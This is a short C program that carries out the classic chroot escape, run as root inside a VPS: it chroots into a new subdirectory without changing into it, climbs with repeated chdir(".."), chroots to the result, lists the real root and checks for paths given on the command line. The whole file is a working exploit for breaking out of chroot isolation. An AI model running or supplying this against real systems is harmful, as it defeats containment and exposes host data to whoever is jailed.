/* Classic chroot escape attempt, run as root inside a VPS:
 * chroot into a subdirectory without chdir, walk up with "..", chroot(".").
 * Prints the entries of the "/" it ends up in, then for each argument
 * whether that path exists from there. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    mkdir("escape-dir", 0700);
    if (chroot("escape-dir") != 0) perror("chroot(escape-dir)");
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) perror("chroot(.)");
    DIR *d = opendir("/");
    struct dirent *e;
    while (d && (e = readdir(d))) printf("entry %s\n", e->d_name);
    for (int i = 1; i < argc; i++) {
        struct stat st;
        printf("%s %s\n", stat(argv[i], &st) == 0 ? "FOUND" : "absent", argv[i]);
    }
    return 0;
}
